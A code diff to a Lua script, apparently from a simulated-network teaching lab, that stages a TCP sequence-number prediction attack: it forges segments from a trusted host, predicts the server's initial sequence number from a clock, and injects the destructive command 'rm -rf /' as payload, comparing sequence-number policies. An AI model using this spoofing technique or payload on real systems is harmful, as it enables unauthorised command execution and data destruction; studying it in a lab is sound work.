@@ -16,17 +16,22 @@ local function attack(policy)
 
   local spy = assert(attacker:connect("10.0.0.2", 514))
   local seen, at = spy.tcb.rcv.irs, net:now()
+  spy:close()
+  listener:accept():close()
   net:sleep(1)
+  local began = net:now()
   local function forge(fields)
     fields.source, fields.source_port, fields.destination, fields.destination_port = "10.0.0.1", 1023, "10.0.0.2", 514
     attacker:inject(tcplab.segment(fields))
   end
   forge { flags = "S", seq = 1000 }
-  local guess = seen + 1 + math.floor((net:now() - at + 0.020) * 250000) -- the clock of 1981 ticks every 4 microseconds
+  local guess = seen + 1 + math.floor((net:now() - at + 0.020) * 250000) -- a tick every 4 microseconds, and a round trip
+  net:sleep(0.020)
+  forge { flags = "P.", seq = 1001, ack = guess & 0xffffffff, payload = "rm -rf /\n" }
   listener:settimeout(0.5)
-  listener:accept():close()
-  for near = -4, 4 do forge { flags = "P.", seq = 1001, ack = guess + near & 0xffffffff, payload = "rm -rf /\n" } end
   local victim = listener:accept()
+  it:say("policy", { policy = policy })
+  it:show(net, { from = began })
   return { policy = policy, line = victim and victim:receive "*l" or "-", address = victim and victim:getpeername() or "-" }
 end
 
